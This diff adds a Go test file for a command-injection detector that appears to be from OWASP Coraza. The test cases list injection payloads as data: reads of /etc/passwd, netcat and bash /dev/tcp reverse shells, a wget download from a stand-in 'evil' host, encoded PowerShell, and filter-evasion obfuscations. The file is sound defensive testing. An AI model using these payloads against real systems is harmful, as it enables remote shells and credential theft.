@@ -0,0 +1,160 @@
+// Copyright 2024 Juan Pablo Tosso and the OWASP Coraza contributors
+// SPDX-License-Identifier: Apache-2.0
+
+package cmdi
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestIsCmdi(t *testing.T) {
+	tests := []struct {
+		input       string
+		fingerprint string
+	}{
+		{input: ";id", fingerprint: ";c"},
+		{input: "; cat /etc/passwd", fingerprint: ";cw"},
+		{input: "127.0.0.1 && whoami", fingerprint: "&c"},
+		{input: "x | nc -e /bin/sh 10.0.0.1 4444", fingerprint: "|cwwwn"},
+		{input: "x || wget http://evil/x", fingerprint: "|cw"},
+		{input: "$(id)", fingerprint: "(c)"},
+		{input: "`uname -a`", fingerprint: "(cw)"},
+		{input: "a\nls -la", fingerprint: ";cw"},
+		{input: "x;sleep 10", fingerprint: ";cn"},
+		{input: "x;sleep${IFS}10", fingerprint: ";cn"},
+		{input: ";cat$IFS/etc/passwd", fingerprint: ";cw"},
+		{input: ";{cat,/etc/passwd}", fingerprint: ";cw"},
+		{input: ";c'a't /etc/passwd", fingerprint: ";cw"},
+		{input: ";c\\at /etc/passwd", fingerprint: ";cw"},
+		{input: ";c$@at /etc/passwd", fingerprint: ";cw"},
+		{input: ";c${u}at /etc/passwd", fingerprint: ";cw"},
+		{input: ";$'\\x63\\x61\\x74' /etc/passwd", fingerprint: ";cw"},
+		{input: ";/bin/c?t /etc/passwd", fingerprint: ";cw"},
+		{input: ";/???/??t /etc/passwd", fingerprint: ";cw"},
+		{input: ";/usr/bin/id", fingerprint: ";c"},
+		{input: ";./exploit", fingerprint: ";c"},
+		{input: "x; sudo -u root id", fingerprint: ";wwwc"},
+		{input: "x; LANG=C ls", fingerprint: ";wc"},
+		{input: "x; timeout 5 bash -i", fingerprint: ";wncw"},
+		{input: "x;echo x > /tmp/y", fingerprint: ";cw>w"},
+		{input: "x & type C:\\boot.ini", fingerprint: "&cw"},
+		{input: "x & POWERSHELL -enc AAAA", fingerprint: "&cww"},
+		{input: "x & c^md /c dir", fingerprint: "&cww"},
+		{input: "a <(id)", fingerprint: "(c)"},
+		{input: "x;(ls)", fingerprint: "{c)"},
+		{input: "x;{ ls; }", fingerprint: "{c;)"},
+		// closes single quotes
+		{input: "';id;'", fingerprint: ";c;w"},
+		{input: "' | cat /etc/passwd #", fingerprint: "|cw"},
+		// substitutions run within double quotes
+		{input: "\"$(id)\"", fingerprint: "(c)w"},
+		{input: "abc\" `whoami` \"", fingerprint: "(c)w"},
+		// whole command lines
+		{input: "cat /etc/passwd", fingerprint: "cw"},
+		{input: "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", fingerprint: "cw>wn>n"},
+		{input: "python -c 'import os'", fingerprint: "cww"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.input, func(t *testing.T) {
+			res, fingerprint := IsCmdi(tt.input)
+			if !res {
+				t.Fatal("expected a match")
+			}
+			if fingerprint != tt.fingerprint {
+				t.Errorf("unexpected fingerprint %q, want %q", fingerprint, tt.fingerprint)
+			}
+		})
+	}
+}
+
+func TestIsCmdiNegatives(t *testing.T) {
+	for _, input := range []string{
+		"",
+		"id",
+		"ls",
+		"hello world",
+		"Tom & Jerry",
+		"Tom & cat food",
+		"salt; pepper",
+		"I love my pet (cat)",
+		"The cat sat on the mat",
+		"python is great",
+		"a | b",
+		"price: $5",
+		"it's a cat; isn't it?",
+		"Terms & Conditions; Privacy Policy",
+		"email@example.com",
+		"https://example.com/?a=1&b=2",
+		"AT&T",
+		"Sales & Marketing; Date",
+		"Don't do that; sleep well",
+		"see (find out more)",
+		"why?",
+		"x; ??",
+		"&000;/",
+		"2 > 1",
+	} {
+		if res, fingerprint := IsCmdi(input); res {
+			t.Errorf("unexpected match for %q with fingerprint %q", input, fingerprint)
+		}
+	}
+}
+
+func TestLex(t *testing.T) {
+	tests := map[string]string{
+		"ls -la":                "ww",
+		"a;b&&c||d|e&f":         "w;w&w|w|w&w",
+		"a > b 2>&1":            "w>ww>w",
+		"echo $(id) `ls` <(ps)": "w(w)(w)(w)",
+		"a\"$(id)\"b":           "w(w)w",
+		"a # comment ; id":      "w",
+		"{ a; }":                "{w;)",
+		"((((":                  "{{{{",
+	}
+	for input, want := range tests {
+		var b strings.Builder
+		for _, tok := range lex(input) {
+			b.WriteByte(byte(tok.typ))
+		}
+		if have := b.String(); have != want {
+			t.Errorf("unexpected tokens for %q: %q, want %q", input, have, want)
+		}
+	}
+
+	words := map[string]string{
+		`c'a't`:              "cat",
+		`"c"at`:              "cat",
+		`c\at`:               "cat",
+		`$'\x63\141t'`:       "cat",
+		`c${x}a$1t`:          "cat",
+		"ca\\\nt":            "cat",
+		`"a b"`:              "a b",
+		`'unterminated`:      "unterminated",
+		`"a\"b"`:             `a"b`,
+		`'a\'`:               `a\`,
+		`a$`:                 "a$",
+		`"${IFS}"`:           "",
+		"\"unterminated $x ": "unterminated  ",
+	}
+	for input, want := range words {
+		tokens := lex(input)
+		if len(tokens) != 1 || tokens[0].value != want {
+			t.Errorf("unexpected tokens for %q: %+v, want %q", input, tokens, want)
+		}
+	}
+}
+
+func TestLexDepth(t *testing.T) {
+	input := strings.Repeat("$(", 10000) + "id" + strings.Repeat(")", 10000)
+	if res, _ := IsCmdi(input); !res {
+		t.Error("expected a match")
+	}
+}
+
+func BenchmarkIsCmdi(b *testing.B) {
+	input := "The quick brown fox jumps over the lazy dog; it's a 'quoted' \"string\" & more"
+	for i := 0; i < b.N; i++ {
+		IsCmdi(input)
+	}
+}